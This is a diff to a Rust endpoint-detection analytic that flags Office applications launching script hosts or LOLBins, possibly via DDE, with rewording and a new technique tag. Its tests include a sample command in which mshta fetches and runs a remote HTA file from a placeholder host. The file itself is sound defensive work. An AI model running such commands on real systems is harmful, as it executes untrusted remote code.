@@ -1,19 +1,18 @@
-//! # IPC-DDE-001: Office starts a script host or borrowed system program
+//! # IPC-DDE-001: Office starts a script host or LOLBin
 //!
 //! ## What it detects
-//! An Office program in its own folder starts a script host, a system program that attackers borrow, or an untrusted
-//! program. With a sign of DDE in the ten minutes before (an instruction in a text, a setting that allows it) it is
-//! critical.
+//! An Office program in its own folder starts a script host, a LOLBin, or an untrusted program. With an indication of
+//! DDE in the preceding ten minutes (an instruction in a text, a setting that allows it) it is critical.
 //!
 //! ## Why it matters
-//! A document that starts programs is how DDE, macros and exploits of Office all show themselves.
+//! DDE, macros and exploits of Office all result in a program started by a document.
 //!
 //! ## Telemetry
 //! Sysmon 1, Security 4688.
 //!
 //! ## False positives
-//! Printing helpers and error reporting are no script hosts. Applications that users installed for themselves and
-//! open from a mail (meeting clients, browsers): low. Add-ins that run scripts: allow by image.
+//! Printing helpers and error reporting are excluded. Applications that users installed for themselves and open from a
+//! mail (meeting clients, browsers): low. Add-ins that run scripts: allow by image.
 //!
 //! ## References
 //! ATT&CK T1559.002, T1204.002, T1566.001; DET0504 (AN1393).
@@ -29,18 +28,21 @@ use crate::{Analytic, Context, Evidence, Family, predicates};
 
 pub const ANALYTIC: Analytic = Analytic {
     id: "IPC-DDE-001",
-    title: "Office starts a script host or borrowed system program",
+    title: "Office starts a script host or LOLBin",
     family: Family::DynamicDataExchange,
     techniques: &["T1559.002", "T1204.002", "T1566.001"],
     attack_analytics: &["AN1393"],
     severity: Severity::High,
     on: &[ActivityKind::ProcessStart],
     telemetry: &[Source::Sysmon, Source::Security],
-    // A sign of DDE counts this long.
+    // An indication of DDE is considered for this long.
     window: Some(Duration::from_secs(600)),
     evaluate,
     ..Analytic::DEFAULTS
 };
+
+/// What a child of Office shows where nothing speaks of DDE.
+const WITHOUT_DDE: &[&str] = &["T1559", "T1204.002"];
 
 fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
     let parent = context.parent();
@@ -55,7 +57,7 @@ fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence>
     }
     let document = office::document(parent.command_line);
     let opened = document.map_or(String::new(), |document| format!(" while {document} was open"));
-    // What users install for themselves is opened from mails and documents every day.
+    // Applications that users install for themselves are commonly opened from mails and documents.
     if untrusted && !host && !lolbin && com_server::product_folder(child.image).is_some() {
         let text = format!(
             "{} started {}{opened}, a program that the user installed for themselves.",
@@ -67,7 +69,8 @@ fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence>
                 .indicators(Indicators::UNEXPECTED_USE)
                 .client(parent)
                 .server(child)
-                .channel(Mechanism::Unknown, ""),
+                .channel(Mechanism::Unknown, "")
+                .techniques(WITHOUT_DDE),
         );
     }
     let payload = office::has_payload(child.command_line)
@@ -92,13 +95,16 @@ fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence>
         .client(parent)
         .server(child)
         .channel(if trace.is_some() { Mechanism::Dde } else { Mechanism::Unknown }, document.unwrap_or(""));
+    if trace.is_none() {
+        evidence = evidence.techniques(WITHOUT_DDE);
+    }
     if let Some(trace) = trace {
         evidence = evidence.because(&trace.note, format!("a sign of DDE: {}", trace.what));
     }
     Some(evidence)
 }
 
-/// Commands that Office itself runs: its printing and conversion helpers, its own repair.
+/// Commands that Office itself runs: printing and conversion helpers, repair.
 fn is_office_s_own(line: &str) -> bool {
     contains_any(
         line,
@@ -131,7 +137,7 @@ mod tests {
     }
 
     #[test]
-    fn a_command_that_fetches_is_more_certain() {
+    fn a_command_that_downloads_has_higher_confidence() {
         let events =
             [start(0, r"C:\Windows\System32\mshta.exe", "mshta.exe http://a.example/x.hta").by(WORD, WORD_LINE)];
         let findings = check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
@@ -166,7 +172,7 @@ mod tests {
     }
 
     #[test]
-    fn an_office_name_in_another_folder_is_another_finding_s() {
+    fn an_office_name_in_another_folder_is_left_to_another_analytic() {
         let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe").by(r"C:\Users\a\WINWORD.EXE", "WINWORD.EXE")];
         check(&ANALYTIC, &events, None);
     }
